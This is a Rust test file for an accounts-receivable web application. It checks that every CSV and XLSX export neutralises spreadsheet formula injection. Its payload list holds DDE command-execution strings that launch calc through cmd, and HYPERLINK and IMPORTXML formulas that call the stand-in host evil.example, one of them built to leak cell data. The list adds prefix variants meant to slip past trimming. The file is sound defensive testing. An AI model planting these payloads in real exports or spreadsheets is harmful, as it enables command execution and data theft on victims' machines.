//! What leaves as a file is inert (S4): formulas as names, numbers, notes and reasons, then every list that a page offers as a file is
//! fetched with the browser, in every form that there is. No cell is a formula: in CSV none begins with what a spreadsheet would take
//! for one, in workbooks each is a text by its type. Numbers stay numbers.

use crate::browser::Browser;
use crate::company::{Company, PASSWORD, out, today};
use crate::crawl::kinds;
use crate::pictures::sign_in;
use base64::Engine;
use calamine::{Data, Reader, Xlsx};
use serde_json::json;
use std::collections::BTreeSet;
use std::io::Cursor;

/// What spreadsheets take for the beginning of a formula, and what they trim away before it.
const BEGINNINGS: [&str; 12] =
    ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u{ff1d}", "\u{ff0b}", "\u{ff0d}", "\u{ff20}"];
/// What stands behind it.
const BODIES: [&str; 5] = [
    "cmd|'/C calc'!A0",
    "HYPERLINK(\"//evil.example\";\"x\")",
    "1+1",
    "IMPORTXML(CONCAT(\"//evil.example/\",A1),\"//a\")",
    "DDE(\"cmd\";\"/C calc\";\"x\")",
];
/// By what each is known again, whatever was trimmed or put in front.
const SIGN: &str = "F0RMULA";

fn payloads() -> Vec<String> {
    let all = BEGINNINGS.iter().flat_map(|start| BODIES.iter().map(move |body| format!("{start}{body}")));
    all.enumerate().map(|(n, text)| format!("{text} {SIGN}{n}")).collect()
}

fn quoted(text: &str) -> String {
    format!("\"{}\"", text.replace('"', "\"\""))
}

/// Books in which every text is a payload.
fn poisoned() -> Company {
    let folder = tempfile::tempdir().expect("a folder");
    let at = folder.path();
    let (mut customers, mut invoices) = (
        "customer_number,name,country,segment,collector\n".to_owned(),
        "invoice_number,customer_id,segment,currency,issue_date,due_date,amount,po_number\n".to_owned(),
    );
    let (all, day) = (payloads(), today());
    let mut acts = String::new();
    for (n, text) in all.iter().enumerate() {
        let (own, cell) = (format!("{text} i"), quoted(text));
        customers += &format!("C{n},{cell},DE,{cell},{cell}\n");
        invoices += &format!(
            "{},C{n},{cell},EUR,2026-08-{:02},2026-09-{:02},{}.00,{cell}\n",
            quoted(&own),
            1 + n % 28,
            1 + n % 28,
            100 + n
        );
        // Commands take no control characters; files of others may hold them.
        if text.contains('\r') {
            continue;
        }
        let customer = format!("C{n}");
        let said = [
            json!({"do": "contact", "customer": customer, "name": text, "roles": ["dunning"], "email": "a@b.example"}),
            json!({"do": "activity", "customer": customer, "at": format!("{day}T09:00"), "medium": "call", "outcome": "reached", "note": text}),
            json!({"do": "promise", "customer": customer, "date": day, "medium": "call", "currency": "EUR", "note": text, "parts": [{"due": day, "amount": "1.00"}]}),
            json!({"do": "dispute", "document": own.trim(), "disputed": true, "date": day, "reason": text, "note": text, "owner": text}),
            json!({"do": "tag", "customer": customer, "tag": text}),
            json!({"do": "customer_hold", "customer": customer, "date": day, "reason": text}),
        ];
        for (at, mut act) in said.into_iter().enumerate() {
            act["key"] = format!("{n}/{at}").into();
            acts += &format!("{act}\n");
        }
    }
    std::fs::write(at.join("c.csv"), customers).expect("a file");
    std::fs::write(at.join("i.csv"), invoices).expect("a file");
    out(at, &["books", "init", "--books", "b.db"], "");
    out(at, &["import", "customers", "c.csv", "--books", "b.db", "-q"], "");
    out(at, &["import", "invoices", "i.csv", "--books", "b.db", "-q"], "");
    out(at, &["post", "--books", "b.db"], &acts);
    for (name, role) in [("Root", "administrator"), ("Maren", "manager")] {
        out(at, &["user", "set", name, "--role", role, "--books", "b.db"], "");
        out(at, &["user", "password", name, "--books", "b.db"], PASSWORD);
    }
    Company::over(folder)
}

/// The cells of a CSV file, without their quotes.
fn cells(text: &str) -> Vec<String> {
    let (mut all, mut cell, mut is_quoted) = (Vec::new(), String::new(), false);
    let mut letters = text.chars().peekable();
    while let Some(letter) = letters.next() {
        match letter {
            '"' if is_quoted && letters.peek() == Some(&'"') => cell.extend(letters.next()),
            '"' => is_quoted = !is_quoted,
            ',' | '\n' if !is_quoted => all.push(std::mem::take(&mut cell)),
            other => cell.push(other),
        }
    }
    all.push(cell);
    all
}

/// Whether a spreadsheet would calculate a cell of a CSV file: by its beginning, unless it is a number.
fn is_formula(cell: &str) -> bool {
    let is_number = cell.strip_prefix('-').unwrap_or(cell).bytes().all(|b| b.is_ascii_digit() || b == b'.');
    let first = cell.trim_start_matches([' ', '\u{a0}']).chars().next();
    let begins = matches!(
        first,
        Some(
            '=' | '+'
                | '-'
                | '@'
                | '\t'
                | '\r'
                | '\n'
                | '\0'
                | '\u{ff1d}'
                | '\u{ff0b}'
                | '\u{ff0d}'
                | '\u{ff20}'
        )
    );
    begins && !is_number
}

/// Fetches a file as the browser does for whoever clicks: status, media type, bytes.
fn fetched(browser: &Browser, place: &str) -> (u64, String, Vec<u8>) {
    const FETCH: &str = "const done = arguments[arguments.length - 1];
        fetch(arguments[0]).then(async (told) => {
          const bytes = new Uint8Array(await told.arrayBuffer());
          let text = '';
          for (let at = 0; at < bytes.length; at += 8192) text += String.fromCharCode(...bytes.subarray(at, at + 8192));
          done([told.status, told.headers.get('content-type') ?? '', btoa(text)]);
        }, (e) => done([0, String(e), '']));";
    let told: (u64, String, String) =
        serde_json::from_value(browser.run_later(FETCH, json!([place]))).expect("an answer");
    let bytes = base64::engine::general_purpose::STANDARD.decode(&told.2).expect("base64");
    (told.0, told.1, bytes)
}

/// The places of files that pages link to, in each form that there is.
fn offered(browser: &Browser) -> BTreeSet<String> {
    const LINKS: &str = "return [...document.querySelectorAll('a[href^=\"/export/\"]')].map((own) => own.getAttribute('href'))";
    let mut all = BTreeSet::new();
    // Items are offered where no band is chosen; the walk finds them with one.
    let more = ["/aging/items".to_owned()];
    for address in kinds(browser).into_iter().map(|(_, address)| address).chain(more) {
        browser.go(&address);
        let links: Vec<String> = serde_json::from_value(browser.run(LINKS, json!([]))).expect("links");
        for link in links {
            for form in ["csv", "xlsx"] {
                let (path, query) = link.split_once('?').unwrap_or((&link, ""));
                let rest = query.split('&').filter(|pair| !pair.is_empty() && !pair.starts_with("as="));
                all.insert(rest.fold(format!("{path}?as={form}"), |place, pair| format!("{place}&{pair}")));
            }
        }
    }
    all
}

#[test]
fn no_cell_that_leaves_is_a_formula() {
    let company = poisoned();
    let Some(browser) = Browser::open(&company.home) else { return };
    sign_in(&browser, "Maren");
    let places = offered(&browser);
    let lists: BTreeSet<&str> = places.iter().filter_map(|place| place.split('?').next()).collect();
    for expected in ["aging", "customers", "disputes", "holds", "items", "promises"] {
        assert!(lists.contains(format!("/export/{expected}").as_str()), "{expected} is offered: {lists:?}");
    }
    let (mut wrong, mut met) = (Vec::new(), 0);
    for place in &places {
        let (status, media, bytes) = fetched(&browser, place);
        if status != 200 {
            wrong.push(format!("{place}: {status}"));
        } else if media.starts_with("text/csv") {
            let text = String::from_utf8(bytes).expect("UTF-8");
            let all = cells(&text);
            met += all.iter().filter(|cell| cell.contains(SIGN)).count();
            wrong.extend(all.iter().filter(|cell| is_formula(cell)).map(|cell| format!("{place}: {cell:?}")));
        } else {
            let mut book = Xlsx::new(Cursor::new(bytes)).expect("a workbook");
            for name in book.sheet_names() {
                let formulas = book.worksheet_formula(&name).expect("formulas");
                wrong.extend(formulas.used_cells().map(|(.., text)| format!("{place}: formula {text:?}")));
                let range = book.worksheet_range(&name).expect("cells");
                let texts = range.used_cells().filter(|(.., cell)| matches!(cell, Data::String(_)));
                met += texts.filter(|(.., cell)| cell.to_string().contains(SIGN)).count();
            }
        }
    }
    println!("{} files of {} lists, {met} cells with payloads", places.len(), lists.len());
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    assert!(met > payloads().len(), "payloads are in the files: {met}");
}

/// The judge must be able to say guilty, and must let numbers pass.
#[test]
fn formulas_are_told_from_numbers() {
    for guilty in ["=1+1", "+1-1", "-2+3", "@SUM(1)", "\t=1", " =1", "\u{ff1d}1"] {
        assert!(is_formula(guilty), "{guilty:?}");
    }
    for calm in ["", "-12.50", "7", "'=1+1", "2026-09-01", "a=b"] {
        assert!(!is_formula(calm), "{calm:?}");
    }
    assert_eq!(cells("a,\"b\"\"c,\nd\"\n"), ["a", "b\"c,\nd", ""]);
}
